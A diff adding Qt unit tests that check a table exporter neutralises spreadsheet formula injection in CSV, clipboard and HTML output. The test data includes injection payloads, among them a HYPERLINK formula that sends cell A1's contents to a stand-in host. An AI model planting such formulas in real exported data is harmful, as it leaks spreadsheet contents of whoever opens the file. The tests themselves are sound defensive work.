@@ -46,6 +46,9 @@ private slots:
     void theTableAsShown();
     void clipboardTextAndHtmlOfSelectedRows();
     void outputFileChecksAndWrites();
+    void spreadsheetSafe_data();
+    void spreadsheetSafe();
+    void formulasNeverReachASpreadsheet();
 };
 
 void TestTableExport::csvInDocumentOrder()
@@ -146,6 +149,60 @@ void TestTableExport::outputFileChecksAndWrites()
              u"%1/none/lines.csv: the folder %1/none does not exist"_s.arg(folder.path()));
     QCOMPARE(OutputFile::check(folder.path()), u"%1: is a folder, not a file"_s.arg(folder.path()));
     QCOMPARE(QDir(folder.path()).entryList(QDir::Files), QStringList {u"lines.csv"_s});
+}
+
+void TestTableExport::spreadsheetSafe_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QString>("safe");
+    QTest::newRow("plain") << u"Cobra Biologics"_s << u"Cobra Biologics"_s;
+    QTest::newRow("=") << u"=HYPERLINK(\"http://x.test\",\"Click\")"_s << u"'=HYPERLINK(\"http://x.test\",\"Click\")"_s;
+    QTest::newRow("+") << u"+44 1782"_s << u"'+44 1782"_s;
+    QTest::newRow("-") << u"-2+3"_s << u"'-2+3"_s;
+    QTest::newRow("@") << u"@SUM(A1:A9)"_s << u"'@SUM(A1:A9)"_s;
+    QTest::newRow("tab") << u"\t=1+1"_s << u"'\t=1+1"_s;
+    QTest::newRow("carriage return") << u"\r=1+1"_s << u"'\r=1+1"_s;
+    QTest::newRow("= inside") << u"a=b"_s << u"a=b"_s;
+    QTest::newRow("£ first") << u"£2.6m"_s << u"£2.6m"_s;
+    QTest::newRow("empty") << QString() << QString();
+}
+
+void TestTableExport::spreadsheetSafe()
+{
+    QFETCH(QString, text);
+    QFETCH(QString, safe);
+    QCOMPARE(TableExport::spreadsheetSafe(text), safe);
+}
+
+void TestTableExport::formulasNeverReachASpreadsheet()
+{
+    // Cobra Biologics' line with a formula in every text cell a reader could fill.
+    Factsheet factsheet = embeddedFactsheet();
+    FundingLine &cobra = factsheet.fundingLines.front();
+    cobra.title = u"=HYPERLINK(\"http://x.test/?\"&A1,\"Click\")"_s;
+    cobra.purpose = u"+1 more"_s;
+    cobra.category = u"-2"_s;
+    cobra.fund = u"@SUM(A1)"_s;
+    cobra.location = u"\tTab"_s;
+    cobra.source = u"\r=1+1"_s;
+    FactsheetModel model;
+    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::Fatal);
+    model.setFactsheet(factsheet);
+    const int row = model.indexOfEntity(u"fundingLine/cobra-biologics"_s).row();
+
+    const QByteArray csv = TableExport::csv(&model);
+    const QList<QByteArray> lines = csv.split('\n');
+    QCOMPARE(QString::fromUtf8(lines.at(1)),
+             u"\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Click\"\")\",'+1 more,'-2,2600000,\"£2,600,000\",'@SUM(A1),"
+             u"'\tTab,Local,\"'\r=1+1\"\r"_s);
+    // The clipboard: a cell made one line is made safe as it then begins.
+    QCOMPARE(TableExport::tabSeparated(&model, {row}).split(u'\n').at(1),
+             u"'=HYPERLINK(\"http://x.test/?\"&A1,\"Click\")\t'+1 more\t'-2\t2600000\t£2,600,000\t'@SUM(A1)\tTab\t"
+             u"Local\t'=1+1"_s);
+    QCOMPARE(TableExport::htmlTable(&model, {row}).section(u"<tbody>"_s, 1),
+             u"<tr><td>'=HYPERLINK(&quot;http://x.test/?&quot;&amp;A1,&quot;Click&quot;)</td><td>'+1 more</td>"
+             u"<td>'-2</td><td>2600000</td><td>£2,600,000</td><td>'@SUM(A1)</td><td>'\tTab</td><td>Local</td>"
+             u"<td>'\r=1+1</td></tr></tbody></table>"_s);
 }
 
 QTEST_GUILESS_MAIN(TestTableExport)
